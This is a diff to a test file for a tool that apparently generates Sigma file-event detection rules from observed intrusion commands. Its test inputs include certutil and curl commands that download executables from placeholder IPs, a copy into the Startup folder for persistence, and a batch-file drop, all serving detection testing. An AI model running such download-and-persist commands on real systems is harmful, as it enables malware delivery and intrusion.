@@ -16,17 +16,38 @@ const fires = (rule: object, value: string) => selfTestRule(rule as Record<strin
 
 describe('file-event rules on the files the programs write', () => {
   it('keys a Windows download on the downloader, the folder without the user, and the name', () => {
-    const [rule] = fileRules('windows', 'certutil.exe -urlcache -split -f http://203.0.113.7/quilltool.exe %PUBLIC%\\quilltool.exe');
+    const [rule] = fileRules('windows', 'certutil.exe -urlcache -split -f http://203.0.113.7/quilltool.exe %APPDATA%\\quilltool.exe');
     expect(rule?.rule.logsource).toEqual({ category: 'file_event', product: 'windows' });
     expect(rule?.rule.detection['selection']).toEqual({
       'Image|endswith': '\\certutil.exe',
-      'TargetFilename|contains': '\\Users\\Public\\',
+      'TargetFilename|contains': '\\AppData\\Roaming\\',
       'TargetFilename|endswith': '\\quilltool.exe',
     });
-    expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/quilltool.exe C:\\Users\\Public\\quilltool.exe')).toBe(
-      true,
+    const shown = 'certutil -urlcache -f http://198.51.100.9/quilltool.exe C:\\Users\\ann\\AppData\\Roaming\\quilltool.exe';
+    expect(fires(rule?.rule as object, shown)).toBe(true);
+    expect(fires(rule?.rule as object, 'curl -o C:\\Users\\ann\\AppData\\Roaming\\quilltool.exe http://198.51.100.9/q')).toBe(false);
+  });
+
+  it('keys a program dropped into the Public folders on its kind, whatever its name, as SigmaHQ keys the folder', () => {
+    const [rule] = fileRules('windows', 'certutil.exe -urlcache -split -f http://203.0.113.7/q.exe %PUBLIC%\\q.exe');
+    expect(rule?.rule.detection['selection']).toEqual({
+      'Image|endswith': '\\certutil.exe',
+      'TargetFilename|contains': ':\\Users\\Public\\',
+      'TargetFilename|endswith': '.exe',
+    });
+    expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/z.exe C:\\Users\\Public\\z.exe')).toBe(true);
+    expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/z.txt C:\\Users\\Public\\z.txt')).toBe(false);
+  });
+
+  it('keys a startup item on the folder and its kind', () => {
+    const startup = fileRules(
+      'windows',
+      'copy C:\\ProgramData\\q.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\q.lnk"',
     );
-    expect(fires(rule?.rule as object, 'curl -o C:\\Users\\Public\\quilltool.exe http://198.51.100.9/q')).toBe(false);
+    expect(startup.map((draft) => draft.rule.detection['selection'])).toContainEqual({
+      'TargetFilename|contains': '\\Start Menu\\Programs\\Startup\\',
+      'TargetFilename|endswith': '.lnk',
+    });
   });
 
   it('makes no rule of a made-up name, a document or output in common folders', () => {
@@ -61,7 +82,7 @@ describe('file-event rules on the files the programs write', () => {
   it('keeps a Windows redirection that writes a script into a folder of the intrusion, not captured output', () => {
     const [rule] = fileRules('windows', 'cmd /c echo start C:\\ProgramData\\Quill\\q.exe > C:\\ProgramData\\Quill\\quillrun.bat');
     expect(rule?.rule.detection['selection']).toEqual({
-      'TargetFilename|contains': '\\ProgramData\\Quill\\',
+      'TargetFilename|contains': ':\\ProgramData\\Quill\\',
       'TargetFilename|endswith': '\\quillrun.bat',
     });
     expect(fires(rule?.rule as object, 'echo x > C:\\ProgramData\\Quill\\quillrun.bat')).toBe(true);
